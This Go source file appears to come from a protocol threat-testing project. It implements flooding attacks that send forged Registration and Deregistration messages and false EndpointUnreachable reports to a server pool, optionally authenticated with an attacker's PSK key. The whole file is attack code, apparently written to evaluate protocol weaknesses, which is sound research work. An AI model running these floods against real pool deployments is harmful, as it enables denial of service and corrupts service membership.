// SPDX-License-Identifier: Apache-2.0

package attackers

import (
	"context"
	"fmt"

	"github.com/rspthreat/rspthreat/reference/tlspsk"
	"github.com/rspthreat/rspthreat/reference/wire"
)

func runFlooder(ctx context.Context, o *Order) error {
	v, at := o.victim()
	n := 0
	return o.flood(ctx, func() wire.Message {
		n++
		pe := v.invented(at)
		pe.ID = v.Element + wire.PEID(n/2)
		if n%2 == 0 {
			return &wire.Deregistration{PoolHandle: wire.PoolHandle(o.Pool), PEID: pe.ID}
		}
		return &wire.Registration{PoolHandle: wire.PoolHandle(o.Pool), Element: pe}
	})
}

// runReporter floods with reports that an element cannot be reached.
func runReporter(ctx context.Context, o *Order) error {
	if err := o.needs("--pool", o.Pool != "", "--element", o.Element != 0); err != nil {
		return err
	}
	return o.flood(ctx, func() wire.Message {
		return &wire.EndpointUnreachable{PoolHandle: wire.PoolHandle(o.Pool), PEID: o.Element}
	})
}

// flood sends what next makes to each door in turn.
func (o *Order) flood(ctx context.Context, next func() wire.Message) error {
	reached := false
	for _, door := range o.doorsFor() {
		f := Flooder{Site: o.Site, Who: orStranger(o.Identity), Door: door, Config: func() *tlspsk.Config { return o.psk() }}
		tally := f.Flood(ctx, o.Messages, o.Messages, next)
		o.Say(tally.String())
		reached = reached || tally.Sent > 0
	}
	if !reached {
		return fmt.Errorf("%w: nothing could be sent", ErrNotMade)
	}
	return nil
}

// psk is a fresh configuration with the attacker's own key, nil when it has none.
func (o *Order) psk() *tlspsk.Config {
	if o.Key == nil {
		return nil
	}
	return &tlspsk.Config{PSKIdentity: o.Identity, PSKKey: append([]byte(nil), o.Key...)}
}
